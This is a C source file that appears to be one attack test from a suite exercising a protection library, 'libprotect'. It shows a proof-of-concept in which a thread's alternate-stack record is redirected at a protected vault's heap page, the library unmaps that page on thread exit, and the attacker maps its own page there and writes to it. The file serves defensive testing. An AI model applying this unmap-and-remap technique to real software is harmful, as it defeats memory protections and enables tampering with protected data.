/* libprotect unmaps a thread's alternate stacks when the thread ends, at
 * the addresses its thread-local record holds: the attacker points that
 * record at the vault's heap, ends the thread, then maps a page of
 * its own where the vault's heap block was.  altstack_unmap */
#define _GNU_SOURCE
#include "attack.h"
#include "libprotect_symbols.h"

#include <pthread.h>
#include <stdint.h>
#include <sys/mman.h>

static struct vault_cell *cell;

static void *point_and_end(void *unused)
{
    void **altstack = libprotect_thread_local("altstack");
    if (altstack)
        altstack[1] = (void *)((uintptr_t)cell & ~(uintptr_t)4095); /* a level it never used */
    return NULL;
}

int main(void)
{
    vault_open();
    cell = vault_address(VAULT_HEAP);
    pthread_t t;
    pthread_create(&t, NULL, point_and_end, NULL);
    pthread_join(t, NULL);
    uintptr_t page = (uintptr_t)cell & ~(uintptr_t)4095;
    void *p = mmap((void *)page, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
    if (p == MAP_FAILED)
        p = mmap((void *)page, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (p != (void *)page)
        blocked("the vault's heap page is still there");
    write_counter_at(VAULT_HEAP, &cell->counter);
}
